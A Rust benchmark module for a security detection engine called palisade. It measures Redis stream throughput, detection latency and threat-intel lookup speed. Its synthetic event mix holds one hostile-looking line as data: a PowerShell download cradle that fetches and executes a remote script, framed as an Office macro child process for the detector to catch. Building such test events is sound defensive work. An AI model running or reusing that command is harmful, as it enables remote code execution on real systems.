//! `palisade bench pipeline`: how fast the whole engine runs from a Redis stream, next to the
//! ceiling of the same Redis server on the same machine, measured in one run.
//!
//! 1. The ceiling: one task `XADD`s in pipelines while another `XREADGROUP`s and `XACK`s in
//!    batches; events/s until every entry is acknowledged.
//! 2. palisade: the same producer, and the real engine (shipped rules and playbooks, state in a
//!    scratch SQLite file, alerts published) consuming through its stream source.
//! 3. Latency from publish to detection recorded and to action dispatched (alerts out), at full
//!    load and at half of the measured palisade throughput.

use std::net::IpAddr;
use std::path::Path;
use std::sync::Arc;
use std::time::{Duration, Instant, SystemTime, UNIX_EPOCH};

use redis::aio::MultiplexedConnection;
use tokio::sync::Notify;

use crate::bus::{Health, Link};
use crate::config::StreamSourceConfig;
use crate::content::Content;
use crate::engine::drive::{CommitProbe, Outputs, drive_stream};
use crate::engine::{AlertFormat, Engine, Shutdown};
use crate::sinks::AlertPublisher;
use crate::sources::Intake;
use crate::sources::redis_stream::StreamSource;
use crate::state::{StateStore, spawn_writer};

pub mod webhook;

/// What to measure.
#[derive(Debug, Clone)]
pub struct BenchOptions {
    pub events: usize,
    /// One event in this many is malicious (and so produces detections and actions).
    pub malicious_every: usize,
    pub redis_url: String,
    /// Add a playbook posting each malicious detection to a local receiver that behaves so.
    pub webhook: Option<webhook::WebhookMode>,
}

/// Latency percentiles in milliseconds.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct Latency {
    pub samples: usize,
    pub p50: f64,
    pub p99: f64,
    pub max: f64,
}

impl Latency {
    fn of(mut millis: Vec<f64>) -> Latency {
        if millis.is_empty() {
            return Latency::default();
        }
        millis.sort_by(f64::total_cmp);
        let at = |q: f64| millis[((millis.len() - 1) as f64 * q).round() as usize];
        Latency {
            samples: millis.len(),
            p50: at(0.50),
            p99: at(0.99),
            max: at(1.0),
        }
    }
}

impl std::fmt::Display for Latency {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(
            f,
            "p50 {:.2} ms, p99 {:.2} ms, max {:.2} ms ({} samples)",
            self.p50, self.p99, self.max, self.samples
        )
    }
}

/// One palisade run.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct RunFigures {
    pub offered_per_second: Option<f64>,
    pub events_per_second: f64,
    pub to_recorded: Latency,
    pub to_dispatched: Latency,
}

#[derive(Debug, Clone, Default, PartialEq)]
pub struct BenchReport {
    pub events: usize,
    pub detections_per_run: usize,
    pub ceiling_per_second: f64,
    /// Whether the anomaly model and the tracker ran in `full` and `half`.
    pub model: bool,
    pub tracker: bool,
    pub full: RunFigures,
    /// Full load with rules and playbooks only.
    pub rules_only: RunFigures,
    pub half: RunFigures,
}

impl BenchReport {
    pub fn ratio(&self) -> f64 {
        self.full.events_per_second / self.ceiling_per_second.max(1.0)
    }
}

impl std::fmt::Display for BenchReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(
            f,
            "events per run: {} ({} detections)",
            self.events, self.detections_per_run
        )?;
        writeln!(
            f,
            "redis ceiling (XADD -> XREADGROUP -> XACK): {:>9.0} events/s",
            self.ceiling_per_second
        )?;
        writeln!(
            f,
            "palisade, full load:                        {:>9.0} events/s  ({:.0}% of the ceiling)",
            self.full.events_per_second,
            self.ratio() * 100.0
        )?;
        writeln!(
            f,
            "  publish -> detection recorded:  {}",
            self.full.to_recorded
        )?;
        writeln!(
            f,
            "  publish -> action dispatched:   {}",
            self.full.to_dispatched
        )?;
        writeln!(
            f,
            "  (stages after the rules: anomaly model {}, tracker {})",
            if self.model {
                "on"
            } else {
                "off (no model file)"
            },
            if self.tracker { "on" } else { "off" }
        )?;
        writeln!(
            f,
            "palisade, full load, rules only:            {:>9.0} events/s  ({:.0}% of the ceiling)",
            self.rules_only.events_per_second,
            self.rules_only.events_per_second / self.ceiling_per_second.max(1.0) * 100.0
        )?;
        writeln!(
            f,
            "palisade, half load ({:.0} events/s offered): {:>9.0} events/s",
            self.half.offered_per_second.unwrap_or_default(),
            self.half.events_per_second
        )?;
        writeln!(
            f,
            "  publish -> detection recorded:  {}",
            self.half.to_recorded
        )?;
        write!(
            f,
            "  publish -> action dispatched:   {}",
            self.half.to_dispatched
        )
    }
}

/// A realistic mix of sensor events: one day of the generated office fleet the shipped anomaly
/// model was trained on (55% process starts, 25% connections, 15% DNS queries, 5% logins, see
/// `anomaly::synth`), where one in `malicious_every` is replaced by an Office macro starting
/// PowerShell with a download cradle. Each line holds the placeholder `"@ID@"` for its id.
pub fn event_mix(count: usize, malicious_every: usize) -> Vec<String> {
    crate::anomaly::synth::normal(count, 1, 42)
        .into_iter()
        .enumerate()
        .map(|(i, mut event)| {
            if malicious_every > 0 && i % malicious_every == malicious_every / 2 {
                event = serde_json::json!({
                    "type": "process_create", "timestamp": event["timestamp"], "host": event["host"],
                    "pid": 1000 + i, "ppid": 4100, "name": "powershell.exe", "parent_name": "WINWORD.EXE",
                    "cmdline": "powershell -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')",
                });
            }
            event["id"] = serde_json::json!("@ID@");
            event.to_string()
        })
        .collect()
}

fn now_micros() -> u128 {
    SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_micros())
        .unwrap_or(0)
}

/// Publishes every line (stamping its id with the send time), in pipelines of `chunk`, at most
/// `rate` events/s when given.
async fn produce(
    mut connection: MultiplexedConnection,
    stream: String,
    lines: Arc<Vec<String>>,
    rate: Option<f64>,
) -> redis::RedisResult<()> {
    let chunk = if rate.is_some() { 50 } else { 500 };
    let started = Instant::now();
    for (n, batch) in lines.chunks(chunk).enumerate() {
        if let Some(rate) = rate {
            let due = started + Duration::from_secs_f64((n * chunk) as f64 / rate);
            tokio::time::sleep_until(due.into()).await;
        }
        let sent = now_micros();
        let mut pipe = redis::pipe();
        for (i, line) in batch.iter().enumerate() {
            let id = format!("b{}-{sent}", n * chunk + i);
            pipe.cmd("XADD")
                .arg(&stream)
                .arg("*")
                .arg("data")
                .arg(line.replace("@ID@", &id))
                .ignore();
        }
        pipe.query_async::<()>(&mut connection).await?;
    }
    Ok(())
}

/// Waits until the group has read every one of `total` entries and has none pending.
async fn wait_drained(
    connection: &mut MultiplexedConnection,
    stream: &str,
    group: &str,
    total: usize,
) -> redis::RedisResult<()> {
    loop {
        let groups: Vec<redis::Value> = redis::cmd("XINFO")
            .arg("GROUPS")
            .arg(stream)
            .query_async(connection)
            .await?;
        let drained = groups.iter().any(|g| {
            let fields = match g {
                redis::Value::Map(pairs) => pairs.clone(),
                redis::Value::Array(items) => items.chunks(2).filter_map(|p| Some((p.first()?.clone(), p.get(1)?.clone()))).collect(),
                _ => Vec::new(),
            };
            let field = |name: &str| {
                fields.iter().find_map(|(k, v)| match (k, v) {
                    (redis::Value::BulkString(k), redis::Value::Int(n)) if k == name.as_bytes() => Some(*n),
                    _ => None,
                })
            };
            let named = fields.iter().any(|(k, v)| {
                matches!((k, v), (redis::Value::BulkString(k), redis::Value::BulkString(v)) if k == b"name" && v == group.as_bytes())
            });
            named && field("entries-read") == Some(total as i64) && field("pending") == Some(0)
        });
        if drained {
            return Ok(());
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
}

async fn connect(url: &str) -> Result<MultiplexedConnection, String> {
    let client = redis::Client::open(url).map_err(|e| e.to_string())?;
    client
        .get_multiplexed_async_connection_with_config(
            &redis::AsyncConnectionConfig::new().set_response_timeout(None),
        )
        .await
        .map_err(|e| format!("cannot connect to Redis at `{url}`: {e}"))
}

async fn fresh_stream(
    connection: &mut MultiplexedConnection,
    stream: &str,
    group: &str,
) -> redis::RedisResult<()> {
    let _: () = redis::cmd("DEL")
        .arg(stream)
        .query_async(connection)
        .await?;
    let _: () = redis::cmd("XGROUP")
        .arg("CREATE")
        .arg(stream)
        .arg(group)
        .arg("0")
        .arg("MKSTREAM")
        .query_async(connection)
        .await?;
    Ok(())
}

/// The raw `XADD` → `XREADGROUP` → `XACK` throughput of the server.
async fn ceiling(url: &str, lines: &Arc<Vec<String>>) -> Result<f64, String> {
    let (stream, group) = ("palisade:bench:ceiling", "bench");
    let mut admin = connect(url).await?;
    fresh_stream(&mut admin, stream, group)
        .await
        .map_err(|e| e.to_string())?;
    let mut consumer = connect(url).await?;
    let total = lines.len();
    let started = Instant::now();
    let producer = tokio::spawn(produce(
        connect(url).await?,
        stream.into(),
        lines.clone(),
        None,
    ));
    let mut acked = 0usize;
    while acked < total {
        let reply: redis::Value = redis::cmd("XREADGROUP")
            .arg("GROUP")
            .arg(group)
            .arg("c1")
            .arg("COUNT")
            .arg(500)
            .arg("BLOCK")
            .arg(1000)
            .arg("STREAMS")
            .arg(stream)
            .arg(">")
            .query_async(&mut consumer)
            .await
            .map_err(|e| e.to_string())?;
        let ids = entry_ids(reply);
        if ids.is_empty() {
            continue;
        }
        let _: () = redis::cmd("XACK")
            .arg(stream)
            .arg(group)
            .arg(&ids)
            .query_async(&mut consumer)
            .await
            .map_err(|e| e.to_string())?;
        acked += ids.len();
    }
    let seconds = started.elapsed().as_secs_f64();
    producer
        .await
        .map_err(|e| e.to_string())?
        .map_err(|e| e.to_string())?;
    let _: () = redis::cmd("DEL")
        .arg(stream)
        .query_async(&mut admin)
        .await
        .map_err(|e| e.to_string())?;
    Ok(total as f64 / seconds)
}

fn entry_ids(reply: redis::Value) -> Vec<Vec<u8>> {
    let mut ids = Vec::new();
    if let redis::Value::Array(streams) = reply {
        for stream in streams {
            if let redis::Value::Array(parts) = stream
                && let Some(redis::Value::Array(entries)) = parts.into_iter().nth(1)
            {
                for entry in entries {
                    if let redis::Value::Array(fields) = entry
                        && let Some(redis::Value::BulkString(id)) = fields.into_iter().next()
                    {
                        ids.push(id);
                    }
                }
            }
        }
    }
    ids
}

/// Collects publish-to-commit latencies from the event ids the producer stamped.
#[derive(Default)]
struct LatencyProbe {
    recorded: Vec<f64>,
    dispatched: Vec<f64>,
}

fn sent_at(event_id: &str) -> Option<u128> {
    event_id.rsplit('-').next()?.parse().ok()
}

impl CommitProbe for LatencyProbe {
    fn active(&self) -> bool {
        true
    }
    fn recorded(&mut self, event_ids: &[String]) {
        let now = now_micros();
        self.recorded.extend(
            event_ids
                .iter()
                .filter_map(|id| sent_at(id))
                .map(|sent| now.saturating_sub(sent) as f64 / 1000.0),
        );
    }
    fn dispatched(&mut self, event_ids: &[String]) {
        let now = now_micros();
        self.dispatched.extend(
            event_ids
                .iter()
                .filter_map(|id| sent_at(id))
                .map(|sent| now.saturating_sub(sent) as f64 / 1000.0),
        );
    }
}

/// The engine consuming a stream the producer fills, at full speed or at `rate`.
async fn palisade_run(
    url: &str,
    content: &Arc<Content>,
    state_dir: &Path,
    lines: &Arc<Vec<String>>,
    rate: Option<f64>,
    stages: crate::pipeline::Stages,
) -> Result<RunFigures, String> {
    let (stream, group) = ("palisade:bench:events", "palisade");
    let mut admin = connect(url).await?;
    fresh_stream(&mut admin, stream, group)
        .await
        .map_err(|e| e.to_string())?;
    let health = Arc::new(Health::default());
    let name = format!("bench-{}-{}.db", rate.is_some(), stages.tracker.is_some());
    let database = state_dir.join(name);
    let store = StateStore::open(&database)
        .await
        .map_err(|e| e.to_string())?;
    let audit = crate::audit::AuditLog::open(&store, &crate::audit::AuditFiles::beside(&database))
        .await
        .map_err(|e| e.to_string())?;
    // The real executor: every step's decision goes to the audit trail, as in `palisade run`.
    let registry =
        crate::actions::plugins::Registry::new(&crate::actions::plugins::PluginSettings {
            redis_url: url.to_string(),
            blocks: Some(store.pool().clone()),
            firewall: crate::actions::plugins::firewall::Backend::Auto,
            webhook: content.config.actions.webhook.limits()?,
        })?;
    let executor = Arc::new(crate::actions::Executor::new(
        registry,
        Arc::new(audit),
        crate::approvals::Approvals::new(&store),
        content.config.actions.policy(url)?,
        "engine:bench".into(),
    ));
    let (state, writer) = spawn_writer(store, Arc::new(Notify::new()));
    // Held until the effects pool is closed: the writer closes the database (the audit trail's
    // too) once every handle is gone.
    let held = state.clone();
    let mut alerts = Some(AlertPublisher::new(
        Link::new(url, "alerts", health.clone())?,
        &crate::config::AlertsConfig {
            stream: Some("palisade:bench:alerts".into()),
            ..Default::default()
        },
    ));
    let source = StreamSource::new(
        Link::new(url, "source", health)?,
        StreamSourceConfig {
            stream: stream.into(),
            group: group.into(),
            consumer: Some("bench".into()),
            block_ms: 100,
            ..Default::default()
        },
    );
    let mut engine = Engine::new(
        content.clone(),
        crate::intel::IntelHandle::default(),
        Intake::new(None),
        AlertFormat::Quiet,
        true,
        stages,
    )?;
    let (trigger, shutdown) = Shutdown::new();
    let pooled = executor.clone();
    webhook::start_pool(&executor, content, &database, &shutdown).await?;
    let total = lines.len();
    let started = Instant::now();
    let producer = tokio::spawn(produce(
        connect(url).await?,
        stream.into(),
        lines.clone(),
        rate,
    ));
    let consumer = tokio::spawn(async move {
        let outputs = Outputs {
            format: AlertFormat::Quiet,
            state,
            alerts: alerts.take(),
            executor: Some(executor),
            metrics: None,
        };
        drive_stream(
            &mut engine,
            source,
            outputs,
            &shutdown,
            LatencyProbe::default(),
        )
        .await
    });
    wait_drained(&mut admin, stream, group, total)
        .await
        .map_err(|e| e.to_string())?;
    let seconds = started.elapsed().as_secs_f64();
    trigger.trigger();
    producer
        .await
        .map_err(|e| e.to_string())?
        .map_err(|e| e.to_string())?;
    let probe = consumer
        .await
        .map_err(|e| e.to_string())?
        .map_err(|e| e.to_string())?;
    pooled.close_pool().await.map_err(|e| e.to_string())?;
    drop(held);
    writer
        .await
        .map_err(|e| e.to_string())?
        .map_err(|e| e.to_string())?;
    let _: () = redis::cmd("DEL")
        .arg(stream)
        .arg("palisade:bench:alerts")
        .query_async(&mut admin)
        .await
        .map_err(|e| e.to_string())?;
    Ok(RunFigures {
        offered_per_second: rate,
        events_per_second: total as f64 / seconds,
        to_recorded: Latency::of(probe.recorded),
        to_dispatched: Latency::of(probe.dispatched),
    })
}

/// What `palisade run` has by default once it has learned: a learner that keeps sampling (for
/// the next retrain) beside the model in use. Its reservoirs have seen a week of the bench's
/// day (seven passes), as an engine would after `min_days`, so the run measures the steady
/// state rather than the first fill of an empty sample.
fn learned(
    config: &crate::config::AnomalyConfig,
    lines: &[String],
) -> crate::anomaly::learning::Learner {
    use crate::anomaly::learning::{Learner, Sampler, Settings};
    let settings = Settings::from_config(
        config,
        "bench".into(),
        std::path::PathBuf::from("bench.model"),
    );
    let mut sampler = Sampler::new(&settings);
    let events: Vec<crate::event::Event> = lines
        .iter()
        .filter_map(|line| crate::event::normalize(line.as_bytes()).ok())
        .collect();
    let mut rows = Vec::new();
    for _ in 0..7 {
        for event in &events {
            sampler.observe(event, &mut rows);
            rows.clear();
        }
    }
    let _ = sampler.take_state();
    Learner::new(settings, sampler)
}

/// Runs the whole benchmark against the Redis server at `options.redis_url`.
pub async fn pipeline(
    options: &BenchOptions,
    content: Arc<Content>,
    state_dir: &Path,
) -> Result<BenchReport, String> {
    let lines = Arc::new(event_mix(options.events, options.malicious_every));
    let content = match options.webhook {
        Some(mode) => webhook::content_posting_to(
            &content,
            &webhook::receiver(mode).await?,
            &state_dir.join("webhook-content"),
        )?,
        None => content,
    };
    tracing::info!(events = options.events, "measuring the Redis ceiling");
    let ceiling = ceiling(&options.redis_url, &lines).await?;
    // Each run gets fresh stages: a tracker that has seen the previous run would not be
    // measuring the same work.
    // The bench measures the engine scoring with a model: the configured file, else the
    // example (what a learned model costs per event is the same).
    let stages = || {
        crate::pipeline::Stages::from_content(&content).and_then(|mut stages| {
            if stages.anomaly.current().is_none() && content.config.anomaly.enabled {
                let path =
                    content.resolve(&crate::anomaly::model_or_example(&content.config.anomaly));
                if let Some(model) =
                    crate::anomaly::load_optional(&path).map_err(|e| e.to_string())?
                {
                    stages.anomaly = crate::anomaly::AnomalyHandle::new(
                        Some(model),
                        content.config.anomaly.threshold,
                    );
                }
            }
            if content.config.anomaly.learns() {
                stages.learner = Some(learned(&content.config.anomaly, &lines));
            }
            Ok(stages)
        })
    };
    tracing::info!("measuring palisade at full load");
    let full = palisade_run(
        &options.redis_url,
        &content,
        state_dir,
        &lines,
        None,
        stages()?,
    )
    .await?;
    tracing::info!("measuring palisade at full load without the anomaly model and tracker");
    let rules_only = palisade_run(
        &options.redis_url,
        &content,
        state_dir,
        &lines,
        None,
        crate::pipeline::Stages::none(),
    )
    .await?;
    let half_rate = full.events_per_second / 2.0;
    tracing::info!(rate = half_rate as u64, "measuring palisade at half load");
    let half = palisade_run(
        &options.redis_url,
        &content,
        state_dir,
        &lines,
        Some(half_rate),
        stages()?,
    )
    .await?;
    Ok(BenchReport {
        events: options.events,
        detections_per_run: full.to_recorded.samples,
        ceiling_per_second: ceiling,
        model: content.config.anomaly.enabled
            && content
                .resolve(&crate::anomaly::model_or_example(&content.config.anomaly))
                .exists(),
        tracker: content.config.tracker.enabled,
        full,
        rules_only,
        half,
    })
}

/// What `palisade bench intel` measured.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct IntelBenchReport {
    pub indicators: usize,
    pub import_seconds: f64,
    pub load_seconds: f64,
    /// Resident memory of the whole process after loading, in MB.
    pub resident_mb: f64,
    pub lookups: usize,
    pub lookups_per_second: f64,
    pub hits: usize,
}

impl std::fmt::Display for IntelBenchReport {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        writeln!(f, "indicators:          {}", self.indicators)?;
        writeln!(f, "import into SQLite:  {:.2} s", self.import_seconds)?;
        writeln!(
            f,
            "load into matcher:   {:.2} s   (target < 5 s)",
            self.load_seconds
        )?;
        writeln!(
            f,
            "resident after load: {:.0} MB  (target < 300 MB)",
            self.resident_mb
        )?;
        write!(
            f,
            "lookups:             {:.1} M/s  ({} event values, {} hits; target > 5 M/s)",
            self.lookups_per_second / 1e6,
            self.lookups,
            self.hits
        )
    }
}

/// A deterministic stream of pseudo-random numbers (no dependency, same figures every run).
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 16
    }
}

/// `count` indicators: 45% addresses, 5% ranges, 25% domains, 10% URLs, 15% hashes, from four
/// sources.
pub fn indicator_mix(count: usize) -> Vec<crate::intel::Indicator> {
    use crate::intel::{Indicator, IndicatorKind};
    let mut rng = Lcg(42);
    let sources = ["feodo", "threatfox", "misp", "otx"];
    (0..count)
        .map(|i| {
            let r = rng.next();
            let (kind, value) = match i % 20 {
                0..=8 => (
                    IndicatorKind::Ip,
                    format!(
                        "{}.{}.{}.{}",
                        11 + r % 200,
                        (r >> 8) % 256,
                        (r >> 16) % 256,
                        (r >> 24) % 256
                    ),
                ),
                9 => (
                    IndicatorKind::Cidr,
                    format!(
                        "{}.{}.{}.0/24",
                        11 + r % 200,
                        (r >> 8) % 256,
                        (r >> 16) % 256
                    ),
                ),
                10..=14 => (
                    IndicatorKind::Domain,
                    format!("c2-{:x}.example{}.net", r % 100_000_000, r % 97),
                ),
                15 | 16 => (
                    IndicatorKind::Url,
                    format!("http://host{}.example.org/p/{:x}", r % 10_000, r),
                ),
                _ => (
                    IndicatorKind::Sha256,
                    format!(
                        "{:016x}{:016x}{:016x}{:016x}",
                        r,
                        rng.next(),
                        rng.next(),
                        rng.next()
                    ),
                ),
            };
            let mut indicator = Indicator::new(kind, value, sources[i % sources.len()]);
            indicator.confidence = (50 + r % 50) as u8;
            indicator.threat =
                Some(["Emotet", "Dridex", "TrickBot", "QakBot"][(r % 4) as usize].into());
            indicator
        })
        .collect()
}

fn resident_mb() -> f64 {
    std::fs::read_to_string("/proc/self/status")
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmRSS:"))
                .and_then(|l| l.split_whitespace().nth(1)?.parse::<f64>().ok())
        })
        .map_or(0.0, |kb| kb / 1024.0)
}

/// Imports `count` indicators into a scratch database, loads them into a matcher, and times
/// lookups of event values (addresses, domains, hashes; about one in ten listed).
pub async fn intel(count: usize, state_dir: &Path) -> Result<IntelBenchReport, String> {
    use crate::event::{Event, EventKind};
    use crate::intel::{IntelStore, Matcher, Warninglists};
    let indicators = indicator_mix(count);
    // Event values to look up: a tenth taken from the indicators, the rest not listed.
    let mut events = Vec::new();
    let mut rng = Lcg(7);
    for i in 0..100_000usize {
        let mut event = Event::new("e", EventKind::NetworkConnection, 0);
        match i % 10 {
            0 => match indicators[(rng.next() as usize) % indicators.len()]
                .value
                .parse::<IpAddr>()
            {
                Ok(ip) => event.remote_ip = Some(ip),
                Err(_) => event.remote_ip = Some(IpAddr::from([9, 9, 9, 9])),
            },
            1..=5 => {
                event.remote_ip = Some(IpAddr::from([
                    (rng.next() % 223) as u8 + 1,
                    rng.next() as u8,
                    rng.next() as u8,
                    rng.next() as u8,
                ]))
            }
            6 | 7 => {
                event.kind = EventKind::DnsQuery;
                event.query_name = Some(format!("www.site{}.example.com", rng.next() % 1_000_000));
            }
            _ => {
                event.kind = EventKind::ProcessCreate;
                event.process_hash = Some(format!("{:064x}", rng.next()));
            }
        }
        events.push(event);
    }
    let path = state_dir.join("bench-intel.db");
    let state = crate::state::StateStore::open(&path)
        .await
        .map_err(|e| e.to_string())?;
    let store = IntelStore::new(&state);
    let started = Instant::now();
    store
        .upsert(&indicators, 0)
        .await
        .map_err(|e| e.to_string())?;
    let import_seconds = started.elapsed().as_secs_f64();
    drop(indicators);

    let started = Instant::now();
    let now = SystemTime::now()
        .duration_since(UNIX_EPOCH)
        .map(|d| d.as_millis() as i64)
        .unwrap_or(0);
    let live = store.live(now).await.map_err(|e| e.to_string())?;
    let matcher = Matcher::build(live, &Warninglists::default(), now);
    let load_seconds = started.elapsed().as_secs_f64();
    let resident = resident_mb();
    state.close().await;

    let mut hits = Vec::new();
    let rounds = 50;
    let started = Instant::now();
    let mut total_hits = 0;
    for _ in 0..rounds {
        for event in &events {
            hits.clear();
            matcher.enrich(std::hint::black_box(event), &mut hits);
            total_hits += hits.len();
        }
    }
    let seconds = started.elapsed().as_secs_f64();
    let lookups = events.len() * rounds;
    Ok(IntelBenchReport {
        indicators: matcher.len(),
        import_seconds,
        load_seconds,
        resident_mb: resident,
        lookups,
        lookups_per_second: lookups as f64 / seconds,
        hits: total_hits / rounds,
    })
}
